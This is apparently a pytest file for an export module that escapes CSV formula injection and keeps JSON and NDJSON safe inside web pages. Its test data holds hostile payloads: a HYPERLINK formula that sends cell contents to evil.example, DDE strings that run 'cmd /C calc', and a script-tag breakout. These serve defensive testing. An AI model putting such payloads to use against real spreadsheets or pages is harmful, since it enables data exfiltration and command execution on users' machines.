"""Rows as files that a spreadsheet, a browser and a line reader take for data and for nothing else."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from monitor.export import Format, Row, render, safe_cell, to_json

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A1", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_be_a_formula_is_a_text(text: str) -> None:
    (row,) = cells({"title": text}, ("title",))
    assert row["title"].startswith("'")
    assert row["title"].lstrip("'").replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("separator", [";", "\t", "|", "\n"])
def test_a_cell_cut_at_another_separator_begins_no_formula_either(separator: str) -> None:
    (row,) = cells({"title": f"Yard sells frigates{separator}=1+1"}, ("title",))
    assert not any(part.startswith("=") for part in row["title"].split(separator))


@pytest.mark.parametrize("text", ["Norway buys 24 – and more", "5% up", "K9-A1", "a=b", "İhracat yüzde 10 arttı", ""])
def test_an_ordinary_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_numbers_truth_and_lists() -> None:
    assert (safe_cell(-3), safe_cell(0.5), safe_cell(True), safe_cell(None)) == (-3, 0.5, "true", "")
    assert safe_cell(("=a", "b")) == "'=a | b"


@given(st.lists(st.text(max_size=40), min_size=1, max_size=4))
def test_any_texts_come_back_from_csv_but_for_the_apostrophe_and_never_as_formulas(texts: list[str]) -> None:
    columns = tuple(f"c{n}" for n in range(len(texts)))
    (row,) = cells(dict(zip(columns, texts, strict=True)), columns)
    for column, text in zip(columns, texts, strict=True):
        assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r", "\n")
        assert row[column].replace("'", "") == text.replace("'", "")


HOSTILE = "</script><script>alert(1)</script><!-- \u2028 \u2029 ]]>"


def test_json_may_stand_in_a_page_and_means_the_same() -> None:
    text = to_json({"title": HOSTILE})
    assert not [bad for bad in ("</", "<!", "\u2028", "\u2029") if bad in text]
    assert json.loads(text) == {"title": HOSTILE}


def test_a_line_of_ndjson_is_one_line_to_every_reader() -> None:
    rows: list[Row] = [{"title": HOSTILE + "\n\r\x85\x0b"}, {"title": "second"}]
    text = "".join(render(rows, ("title",), Format.NDJSON))
    assert [json.loads(line) for line in text.split("\n") if line] == rows
    assert len(text.replace("\u2028", "\n").replace("\u2029", "\n").strip().split("\n")) == 2
    assert json.loads("".join(render(rows, ("title",), Format.JSON))) == rows


def cells(row: Row, columns: tuple[str, ...]) -> list[dict[str, str]]:
    """The row as a CSV reader gets it back."""
    return list(csv.DictReader(io.StringIO("".join(render([row], columns, Format.CSV)), newline="")))
